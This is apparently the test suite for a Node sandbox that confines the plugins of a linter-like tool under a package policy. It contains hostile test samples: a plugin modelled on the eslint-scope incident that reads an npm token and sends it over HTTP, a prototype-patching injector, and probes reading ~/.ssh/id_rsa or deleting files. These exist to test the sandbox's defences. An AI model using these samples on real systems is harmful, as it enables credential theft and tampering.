"""``exec``: tools of a project print what they print in Node, and their plugins are confined."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Mapping
from pathlib import Path

import pytest
from command_line import write
from process import mapper
from support import NODE

#: A linter in the manner of eslint: a configuration file of the project names plugins.
LINTER = {
    "package.json": json.dumps(
        {"name": "linter", "version": "1.0.0", "type": "module", "bin": {"lint": "bin/lint.js"}}
    ),
    "bin/lint.js": """#!/usr/bin/env node
import { run } from '../lib/run.js';
process.exitCode = await run(process.argv.slice(2));
""",
    "lib/run.js": """import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
export const run = async (files) => {
  const place = pathToFileURL(resolve('lint.config.js')).href;
  const { default: config } = await import(`${place}?t=1`);
  let found = 0;
  for (const file of files) {
    const text = readFileSync(file, 'utf8');
    for (const plugin of config.plugins)
      for (const problem of plugin.check(text)) {
        found += 1;
        console.log(`${file}: ${problem}`);
      }
  }
  return found === 0 ? 0 : 3;
};
""",
}

PLUGIN = {
    "package.json": '{"name": "lint-plugin-tabs", "version": "1.0.0", "main": "index.js"}',
    "index.js": """const { describe } = require('./describe');
exports.check = (text) => (text.includes('\\t') ? [describe('tab')] : []);
""",
    "describe.js": "exports.describe = (what) => `no ${what}`;",
}

CONFIG = "import tabs from 'lint-plugin-tabs';\nexport default { plugins: [tabs] };\n"


def installed(folder: Path, name: str, files: Mapping[str, str]) -> None:
    write(folder, {f"node_modules/{name}/{file}": text for file, text in files.items()})


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    description = {
        "name": "project",
        "version": "1.0.0",
        "type": "module",
        "devDependencies": {"linter": "1", "lint-plugin-tabs": "1"},
    }
    write(folder, {"package.json": json.dumps(description), "lint.config.js": CONFIG})
    write(folder, {"src/a.txt": "a\tb", "src/b.txt": "b"})
    installed(folder, "linter", LINTER)
    installed(folder, "lint-plugin-tabs", PLUGIN)
    return folder


def plain(
    project: Path, *arguments: str, env: Mapping[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    program = "node_modules/linter/bin/lint.js"
    return subprocess.run(
        [NODE, program, *arguments],
        cwd=project,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
        env=env,
    )


def test_output_and_status_are_those_of_node(project: Path) -> None:
    expected = plain(project, "src/a.txt", "src/b.txt")
    assert (expected.stdout, expected.returncode) == ("src/a.txt: no tab\n", 3)

    found = mapper("exec", "--infer", "lint", "src/a.txt", "src/b.txt", cwd=project)

    assert (found.stdout, found.returncode) == (expected.stdout, 3), found.stderr


def test_the_project_is_above_the_working_directory(project: Path) -> None:
    write(project, {"src/lint.config.js": CONFIG})

    found = mapper("exec", "--infer", "--", "lint", "a.txt", cwd=project / "src")

    assert found.stdout == "a.txt: no tab\n", found.stderr


def test_a_written_policy_allows_the_same_run_and_no_other_plugin(project: Path) -> None:
    mapper("exec", "--infer", "--write-policy", "lint", "src/b.txt", cwd=project, check=True)
    policy = json.loads((project / "compartment-policy.lint.json").read_text())
    assert policy["resources"]["linter"]["packages"].keys() == {"$root$"}
    assert "lint-plugin-tabs" in policy["resources"]

    found = mapper("exec", "lint", "src/a.txt", cwd=project)
    assert (found.stdout, found.returncode) == ("src/a.txt: no tab\n", 3), found.stderr

    write(project, {"lint.config.js": CONFIG.replace("lint-plugin-tabs", "lint-plugin-new")})
    installed(project, "lint-plugin-new", PLUGIN)
    refused = mapper("exec", "lint", "src/a.txt", cwd=project)
    assert refused.returncode == 1
    assert 'entry.packages["lint-plugin-new"] = true' in refused.stderr


#: Its library, which a plugin requests, needs a package that its program does not.
LIBRARY = {
    "package.json": json.dumps(
        {
            "name": "linter",
            "version": "1.0.0",
            "type": "module",
            "bin": {"lint": "bin/lint.js"},
            "main": "lib/api.cjs",
            "dependencies": {"words": "1"},
        }
    ),
    "lib/api.cjs": "exports.word = require('words');",
}


def with_library(project: Path) -> None:
    installed(project, "linter", LIBRARY)
    installed(
        project,
        "words",
        {"package.json": '{"name": "words"}', "index.js": "module.exports = 'tab'"},
    )
    write(
        project,
        {
            "lint.config.js": "import { word } from 'linter';\n"
            "export default { plugins: [{ check: () => [word] }] };\n"
        },
    )


def test_a_late_module_uses_a_dependency_of_its_package(project: Path) -> None:
    with_library(project)
    expected = plain(project, "src/a.txt")
    assert expected.stdout == "src/a.txt: tab\n", expected.stderr

    found = mapper("exec", "--infer", "lint", "src/a.txt", cwd=project)

    assert (found.stdout, found.returncode) == (expected.stdout, 3), found.stderr


def test_a_late_module_uses_no_dependency_that_the_policy_denies(project: Path) -> None:
    with_library(project)
    mapper("exec", "--infer", "--write-policy", "lint", "src/b.txt", cwd=project, check=False)
    file = project / "compartment-policy.lint.json"
    policy = json.loads(file.read_text())
    (label,) = policy["resources"]["linter"]["packages"].keys() - {"$root$"}

    policy["resources"]["linter"]["packages"][label] = False
    file.write_text(json.dumps({"harmless": True, **policy}))
    found = mapper("exec", "lint", "src/a.txt", cwd=project)

    assert f'resources["linter"].packages["{label}"] = true' in found.stderr
    assert found.stdout == ""


def test_a_grant_of_all_packages_does_not_include_the_project(project: Path) -> None:
    mapper("exec", "--infer", "--write-policy", "lint", "src/b.txt", cwd=project, check=True)
    file = project / "compartment-policy.lint.json"
    policy = json.loads(file.read_text())
    policy["resources"]["linter"]["packages"] = "any"
    file.write_text(json.dumps(policy))

    found = mapper("exec", "lint", "src/a.txt", cwd=project)

    assert 'resources["linter"].packages["$root$"] = true' in found.stderr
    assert found.stdout == ""


def test_a_written_policy_records_shims(project: Path) -> None:
    (project / "shim.js").write_text(
        "Array.prototype.last = function () { return this.at(-1); };\n"
    )
    options = ("--shim", "./shim.js")

    first = mapper("exec", "--infer", "--write-policy", *options, "lint", "src", cwd=project)
    policy = json.loads((project / "compartment-policy.lint.json").read_text())
    again = mapper("exec", "lint", "src", cwd=project)

    assert policy["entry"]["shims"]["shim.js"]["adds"] == {"Array.prototype": ["last"]}
    assert (again.stdout, again.returncode) == (first.stdout, first.returncode), again.stderr
    assert "SHIM" not in again.stderr


def test_files_outside_of_the_project_do_not_exist_as_modules(project: Path) -> None:
    write(project.parent, {"secret.js": "export default 'secret';"})
    outside = "await import([process.cwd(), '..', 'secret.js'].join('/'));\n"
    write(project, {"lint.config.js": f"{outside}export default {{ plugins: [] }};"})
    assert plain(project, "src/a.txt").returncode == 0

    found = mapper("exec", "--infer", "lint", "src/a.txt", cwd=project)

    assert found.returncode == 1
    assert "Cannot find module" in found.stderr


def test_a_package_gets_the_exports_of_another_by_its_path(project: Path) -> None:
    write(
        project,
        {
            "lint.config.js": """import tabs from 'lint-plugin-tabs';
import { createRequire } from 'node:module';
const require = createRequire(import.meta.url);
const path = require.resolve('lint-plugin-tabs');
const same = require(path) === require('lint-plugin-tabs');
console.log(same, (await import(path)).default === tabs);
console.log(require.resolve('lint-plugin-tabs', { paths: [process.cwd()] }) === path);
export default { plugins: [] };
""",
        },
    )
    expected = plain(project)
    assert expected.stdout == "true true\ntrue\n"

    found = mapper("exec", "--infer", "lint", cwd=project)

    assert found.stdout == expected.stdout, found.stderr


def test_a_file_that_is_written_and_then_loaded_belongs_to_the_project(project: Path) -> None:
    write(
        project,
        {
            "lint.config.js": """import { mkdirSync, writeFileSync } from 'node:fs';
mkdirSync('node_modules/.temporary', { recursive: true });
const place = `${process.cwd()}/node_modules/.temporary/config.timestamp-1.mjs`;
writeFileSync(place, "import tabs from 'lint-plugin-tabs'; export default { plugins: [tabs] }");
const { default: config } = await import(`file://${place}`);
export default config;
""",
        },
    )

    found = mapper("exec", "--infer", "lint", "src/a.txt", cwd=project)

    assert found.stdout == "src/a.txt: no tab\n", found.stderr


def test_a_configuration_file_in_typescript(project: Path) -> None:
    write(project, {"lint.config.js": "export { default } from './typed.ts';"})
    write(project, {"typed.ts": f"const all: unknown[] = [];\n{CONFIG}"})

    found = mapper("exec", "--infer", "lint", "src/a.txt", cwd=project)

    assert found.stdout == "src/a.txt: no tab\n", found.stderr


#: In the manner of eslint-scope 3.7.2 (2018): read the token of npm, and send it.
THIEF = {
    "package.json": '{"name": "lint-plugin-tabs", "version": "1.0.1"}',
    "index.js": """const fs = require('fs');
const http = require('http');
exports.check = (text) => {
  try {
    const token = fs.readFileSync(`${process.env.HOME}/.npmrc`, 'utf8');
    fs.writeFileSync(`${process.env.HOME}/sent`, token);
    http.get('http://127.0.0.1:9/', { headers: { token } }).on('error', () => undefined);
  } catch (error) {
    if (process.env.SHOWS) console.error(error.message);
  }
  return text.includes('\\t') ? ['no tab'] : [];
};
""",
}


def stolen(project: Path) -> Path:
    home = project.parent / "home"
    home.mkdir()
    (home / "tmp").mkdir()
    (home / ".npmrc").write_text("//registry/:_authToken=secret")
    installed(project, "lint-plugin-tabs", THIEF)
    return home


def test_a_plugin_that_steals_a_token_is_stopped_and_reported(project: Path) -> None:
    home = stolen(project)
    env = {**os.environ, "HOME": str(home), "TMPDIR": str(home / "tmp")}
    expected = plain(project, "src/a.txt", env=env)
    assert (home / "sent").read_text() == "//registry/:_authToken=secret"
    (home / "sent").unlink()

    found = mapper(
        "exec", "--infer", "--report", "r.jsonl", "lint", "src/a.txt", cwd=project, env=env
    )

    assert (found.stdout, found.returncode) == (expected.stdout, 3), found.stderr
    assert not (home / "sent").exists()
    report = [json.loads(line) for line in (project / "r.jsonl").read_text().splitlines()]
    first = report[0]
    assert (first["package"], first["capability"]) == ("lint-plugin-tabs", "fs.readFileSync")


def test_a_configuration_file_of_the_user_does_not_exist_for_a_tool(project: Path) -> None:
    home = stolen(project)
    write(home, {".config/lint/own.json": "{}", ".ssh/id_rsa": "secret"})
    write(
        project,
        {
            "lint.config.js": """import { readFileSync, promises } from 'node:fs';
const codeOf = (read) => { try { return read() } catch ({ code }) { return code } };
for (const file of ['.npmrc', '.config/lint/own.json', '.ssh/id_rsa', '.npmrc/../.ssh/id_rsa'])
  console.log(codeOf(() => readFileSync(`${process.env.HOME}/${file}`, 'utf8')));
console.log(await promises.readFile(`${process.env.HOME}/.npmrc`).catch(({ code }) => code));
export default { plugins: [] };
"""
        },
    )
    env = {**os.environ, "HOME": str(home), "TMPDIR": str(home / "tmp")}

    found = mapper("exec", "--infer", "lint", "src/a.txt", cwd=project, env=env)

    denied = "ERR_ACCESS_DENIED"
    assert found.stdout.split() == ["ENOENT", "ENOENT", denied, denied, "ENOENT"], found.stderr


def test_a_plugin_with_the_policy_of_its_former_version_is_stopped(project: Path) -> None:
    mapper("exec", "--infer", "--write-policy", "lint", "src/b.txt", cwd=project, check=True)
    home = stolen(project)
    env = {**os.environ, "HOME": str(home), "TMPDIR": str(home / "tmp"), "SHOWS": "1"}

    found = mapper("exec", "lint", "src/a.txt", cwd=project, env=env)

    assert found.stdout == "src/a.txt: no tab\n", found.stderr
    assert not (home / "sent").exists()


#: It injects code into what other plugins return, by shared prototypes.
INJECTOR = {
    "package.json": '{"name": "lint-plugin-tabs", "version": "1.0.1"}',
    "index.js": """try {
  const { includes } = String.prototype;
  String.prototype.includes = function (...args) {
    console.log('injected');
    return includes.apply(this, args);
  };
} catch {}
try {
  const other = require('lint-plugin-other');
  other.check = () => ['injected'];
} catch {}
exports.check = () => [];
""",
}


def test_a_plugin_that_patches_others_changes_nothing(project: Path) -> None:
    both = "import tabs from 'lint-plugin-tabs';\nimport other from 'lint-plugin-other';\n"
    write(project, {"lint.config.js": f"{both}export default {{ plugins: [tabs, other] }};\n"})
    installed(project, "lint-plugin-other", PLUGIN)
    installed(project, "lint-plugin-tabs", PLUGIN)
    mapper("exec", "--infer", "--write-policy", "lint", "src/b.txt", cwd=project, check=True)
    installed(project, "lint-plugin-tabs", INJECTOR)
    assert "injected" in plain(project, "src/a.txt").stdout

    found = mapper("exec", "lint", "src/a.txt", cwd=project)

    assert found.stdout == "src/a.txt: no tab\n", found.stderr


def test_unknown_tools_and_other_programs_are_refused(project: Path) -> None:
    installed(
        project,
        "shell",
        {"package.json": '{"name": "shell", "bin": "run.sh"}', "run.sh": "#!/bin/sh"},
    )

    unknown = mapper("exec", "--infer", "lnt", cwd=project)
    other = mapper("exec", "--infer", "shell", cwd=project)

    assert "error [TOOL_NOT_FOUND]" in unknown.stderr
    assert "did you mean 'lint'" in unknown.stderr
    assert "error [TOOL_NOT_JAVASCRIPT]" in other.stderr
    assert (unknown.returncode, other.returncode) == (1, 1)


def test_a_signal_reaches_the_tool_and_its_end_is_passed_on(project: Path) -> None:
    write(project, {"lint.config.js": "console.log('ready'); setInterval(() => 0, 1000);\n"})
    command = [sys.executable, "-m", "compartment_mapper", "exec", "--infer", "lint"]
    with subprocess.Popen(command, cwd=project, stdout=subprocess.PIPE, text=True) as child:
        assert child.stdout is not None
        assert child.stdout.readline() == "ready\n"
        time.sleep(0.1)
        child.send_signal(signal.SIGTERM)
        assert child.wait(timeout=20) == -signal.SIGTERM


def test_a_thread_asks_for_modules_too(project: Path) -> None:
    write(
        project,
        {
            "lint.config.js": """import { Worker } from 'node:worker_threads';
const place = `${process.cwd()}/work.js`;
const worker = new Worker(place);
const text = await new Promise((done) => worker.on('message', done));
console.log(text);
export default { plugins: [] };
""",
            "work.js": """import { parentPort } from 'node:worker_threads';
const name = ['lint', 'plugin', 'tabs'].join('-');
const { check } = await import(name);
parentPort.postMessage(check('a\\tb')[0]);
""",
        },
    )

    found = mapper("exec", "--infer", "lint", cwd=project)

    assert found.stdout == "no tab\n", found.stderr


def test_a_child_process_asks_for_modules_too(project: Path) -> None:
    write(
        project,
        {
            "lint.config.js": """import { fork } from 'node:child_process';
const child = fork('./work.js');
const text = await new Promise((done) => child.on('message', done));
console.log(text);
export default { plugins: [] };
""",
            "work.js": """const name = ['lint', 'plugin', 'tabs'].join('-');
const { check } = await import(name);
process.send(check('a\\tb')[0]);
process.disconnect();
""",
        },
    )

    found = mapper(
        "exec", "--infer", "--grant", "$root$:node:child_process.fork", "lint", cwd=project
    )

    assert found.stdout == "no tab\n", found.stderr


#: It writes a module beside its target, and loads it.
READER = """const fs = require('fs');
exports.check = () => [];
exports.load = async (text, name) => {
  const place = `${process.cwd()}/src/${name}`;
  fs.writeFileSync(place, text);
  try {
    return JSON.stringify((await import(place)).found);
  } catch (error) {
    return error.message.split('\\n')[0];
  }
};
"""


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.mjs", 'import found from "PLACE/secret.txt" with { type: "text" }; export { found };'),
        ("b.cjs", "exports.found = require('PLACE/secret.json');"),
        ("c.mjs", "export { default as found } from 'PLACE/secret.mjs';"),
        (
            "d.mjs",
            "const read = () => import('PLACE/secret.mjs'); export const found = await read();",
        ),
    ],
)
def test_files_outside_of_the_project_are_not_imported_by_its_files(
    project: Path, name: str, text: str
) -> None:
    files = {
        "secret.txt": "secret",
        "secret.json": '"secret"',
        "secret.mjs": "export default 'secret'",
    }
    write(project.parent, {f"outside/{file}": content for file, content in files.items()})
    write(project, {f"inside/{file}": content for file, content in files.items()})
    (project / "link").symlink_to(project.parent / "outside")
    write(project, {"node_modules/lint-plugin-tabs/index.js": READER})
    places = ("../inside", "../../outside", "../link")
    loads = "".join(
        f"console.log(await tabs.load({json.dumps(text.replace('PLACE', place))}, '{at}{name}'));\n"
        for at, place in enumerate(places)
    )
    write(project, {"lint.config.js": f"{CONFIG}{loads}"})

    found = mapper("exec", "--infer", "lint", cwd=project)

    inside, *outside = found.stdout.splitlines()
    assert "secret" in inside, found.stderr
    assert "Cannot find module" not in inside
    assert len(outside) == 2
    assert all("Cannot find module" in line for line in outside)


def test_files_outside_of_the_project_are_not_packed_with_the_tool(project: Path) -> None:
    write(project.parent, {"secret.json": '"secret"'})
    write(project, {"own.json": '"own"'})
    run = LINTER["lib/run.js"]
    for name, is_found in (("own", True), ("../secret", False)):
        first = (
            f"import own from '../../../{name}.json' with {{ type: 'json' }};\nconsole.log(own);\n"
        )
        installed(project, "linter", {"lib/run.js": first + run})
        found = mapper("exec", "--infer", "lint", cwd=project)
        assert (name.rpartition("/")[2] in found.stdout) == is_found, found.stderr


#: It does what its test tells it, and shows what it did.
WRITER = """const fs = require('fs');
exports.check = () => [];
exports.attempt = (name, ...args) => {
  try {
    const found = fs[name](...args);
    if (name === 'openSync') fs.closeSync(found);
    console.log('done');
  } catch (error) {
    console.log(error.code, error.message);
  }
};
"""


def attempts(project: Path, *lines: tuple[object, ...], policy: str | None = None) -> list[str]:
    """Return what a plugin sees that calls functions of `fs`."""
    installed(project, "lint-plugin-tabs", {"index.js": WRITER})
    calls = "".join(f"tabs.attempt(...{json.dumps(line)});\n" for line in lines)
    write(project, {"lint.config.js": CONFIG + calls})
    grants = ["--infer"] if policy is None else ["--policy", policy]
    found = mapper("exec", *grants, "lint", cwd=project)
    shown = found.stdout.splitlines()
    assert len(shown) == len(lines), found.stderr
    return shown


def is_kept(line: str) -> bool:
    return (
        line.startswith("ERR_ACCESS_DENIED") and "lint-plugin-tabs" in line and "it decides" in line
    )


@pytest.mark.parametrize(
    "name", ["package.json", "compartment-policy.lint.json", "compartment-mapper.toml"]
)
def test_a_plugin_does_not_write_files_that_confine_it(project: Path, name: str) -> None:
    shown = attempts(
        project,
        ("writeFileSync", "src/own.json", "{}"),
        ("copyFileSync", "src/own.json", "src/copy.json"),
        ("renameSync", "src/copy.json", "src/other.json"),
        ("writeFileSync", name, "{}"),
        ("writeFileSync", f"src/../{name}", "{}"),
        ("appendFileSync", name, " "),
        ("openSync", name, "a"),
        ("copyFileSync", "src/own.json", name),
        ("renameSync", "src/own.json", name),
        ("renameSync", name, "src/moved.json"),
        ("linkSync", "src/own.json", name),
        ("linkSync", name, "src/linked.json"),
        ("unlinkSync", name),
        ("rmSync", name, {"force": True}),
        ("truncateSync", name),
        ("mkdirSync", name, {"recursive": True}),
        ("rmSync", ".", {"recursive": True}),
        ("renameSync", str(project), f"{project}-moved"),
    )

    assert shown[:3] == ["done"] * 3
    assert [line for line in shown[3:] if not is_kept(line)] == []
    assert (project / "package.json").is_file()


def test_a_plugin_does_not_write_into_installed_packages(project: Path) -> None:
    installed(project, "private", {"package.json": "{}", "index.js": ""})
    installed(project, ".cache", {"x.js": ""})
    write(project, {"src/deep/node_modules/private/x.js": "", "src/plain/x.js": ""})
    place = "node_modules/private/x.js"
    shown = attempts(
        project,
        ("writeFileSync", "node_modules/.cache/own.js", ""),
        ("mkdirSync", "node_modules/.vite/deps", {"recursive": True}),
        ("renameSync", "node_modules/.vite", "node_modules/.vite-temp"),
        ("rmSync", "node_modules/.cache", {"recursive": True}),
        ("rmSync", "src/plain", {"recursive": True}),
        ("mkdirSync", "new/node_modules/.vite", {"recursive": True}),
        ("writeFileSync", place, ""),
        ("writeFileSync", "src/deep/node_modules/private/x.js", ""),
        ("mkdirSync", "new/node_modules/private", {"recursive": True}),
        ("copyFileSync", "src/a.txt", place),
        ("renameSync", "src/a.txt", place),
        ("renameSync", "node_modules", "modules"),
        ("renameSync", "src", "node_modules/private/src"),
        ("renameSync", "src", "sources"),
        ("rmSync", "src", {"recursive": True}),
        ("rmSync", "node_modules/private", {"recursive": True}),
        ("mkdtempSync", "node_modules/private/"),
    )

    assert shown[:6] == ["done"] * 6
    assert [line for line in shown[6:] if not is_kept(line)] == []


def test_a_folder_with_packages_is_not_moved_into_the_project(project: Path) -> None:
    outside = project.parent / "outside"
    write(outside, {"bad/node_modules/private/x.js": "", "good/x.js": ""})
    installed(project, "lint-plugin-tabs", {"index.js": WRITER})
    calls = "".join(
        f"tabs.attempt('renameSync', {json.dumps(str(outside / name))}, 'src/{name}');\n"
        for name in ("good", "bad")
    )
    write(project, {"lint.config.js": CONFIG + calls})
    env = {**os.environ, "TMPDIR": str(outside)}

    found = mapper("exec", "--infer", "lint", cwd=project, env=env)

    good, bad = found.stdout.splitlines()
    assert good == "done", found.stderr
    assert is_kept(bad)


def test_a_policy_that_names_these_files_allows_to_write_them(project: Path) -> None:
    attempts(project, ("writeFileSync", "src/own.json", "{}"))
    mapper("exec", "--infer", "--write-policy", "lint", cwd=project, check=True)
    policy = json.loads((project / "compartment-policy.lint.json").read_text())
    own = policy["resources"]["lint-plugin-tabs"]
    grants = {"paths": ["./**", "./package.json", "./node_modules/private/**"]}
    own["builtins"] = dict.fromkeys(own["builtins"], grants)
    write(project, {"policy.json": json.dumps(policy), "node_modules/private/package.json": "{}"})

    shown = attempts(
        project,
        ("appendFileSync", "package.json", " "),
        ("writeFileSync", "node_modules/private/x.js", ""),
        ("writeFileSync", "compartment-policy.lint.json", ""),
        policy="policy.json",
    )

    assert shown[:2] == ["done"] * 2
    assert is_kept(shown[2])


@pytest.mark.parametrize("status", [0, 3])
def test_a_policy_that_changes_during_the_run_is_not_written(project: Path, status: int) -> None:
    policy = project / "compartment-policy.lint.json"
    mapper("exec", "--infer", "--write-policy", "lint", cwd=project, check=True)
    before = policy.read_text()
    write(
        project,
        {
            "lint.config.js": f"""import {{ execFileSync }} from 'node:child_process';
execFileSync('sh', ['-c', 'echo >> compartment-policy.lint.json']);
{CONFIG}"""
        },
    )

    grant = ("--grant", "$root$:node:child_process.execFileSync")
    files = ["src/a.txt"] if status else []
    found = mapper("exec", "--infer", *grant, "--write-policy", "lint", *files, cwd=project)

    assert "error [POLICY_CHANGED]" in found.stderr
    assert found.returncode == (status or 1)
    assert policy.read_text() == before + "\n"


@pytest.mark.parametrize(
    ("name", "text"), [("a.cjs", "require('./missing');"), ("a.mjs", "import './missing';")]
)
def test_a_missing_import_of_an_added_module_is_named(project: Path, name: str, text: str) -> None:
    config = f"""import {{ createRequire }} from 'node:module';
const require = createRequire(import.meta.url);
for (const request of [['.', 'src', '{name}'].join('/'), ['.', 'absent.cjs'].join('/')]) {{
  try {{
    require(request);
  }} catch (error) {{
    console.log(/Cannot find module '([^']*)'/.exec(error.message)[1].split('/').at(-1));
  }}
}}
{CONFIG}"""
    write(project, {f"src/{name}": text, "lint.config.js": config})

    found = mapper("exec", "--infer", "lint", cwd=project)

    assert found.stdout == plain(project).stdout == "missing\nabsent.cjs\n", found.stderr
